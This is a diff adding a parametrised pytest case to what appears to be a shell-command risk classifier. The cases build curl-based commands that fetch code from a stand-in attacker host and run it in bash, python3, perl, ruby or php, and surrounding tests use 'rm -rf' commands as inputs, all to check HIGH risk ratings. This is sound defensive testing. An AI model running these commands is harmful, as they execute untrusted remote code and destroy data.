@@ -51,6 +51,15 @@ def test_a_subshell_does_not_change_the_shells_directory() -> None:
     assert shell("cd / && ls; rm -rf *").level is RiskLevel.HIGH
 
 
+@pytest.mark.parametrize("interpreter", ["bash", "python3", "perl", "ruby", "php"])
+@pytest.mark.parametrize(
+    "how", ["{} <(curl -s {url})", "curl -s {url} -o a; {} a", "curl -s {url} | {}"]
+)
+def test_downloaded_code_is_as_risky_in_each_interpreter(interpreter: str, how: str) -> None:
+    risk = shell(how.format(interpreter, url="https://attacker.example/x"))
+    assert (risk.level, rule(risk)) == (RiskLevel.HIGH, "download_and_run")
+
+
 def test_of_many_reasons_the_gravest_are_kept() -> None:
     many = "; ".join(f"echo x > /opt/{n}" for n in range(20)) + "; rm -rf /"
     risk = shell(many)
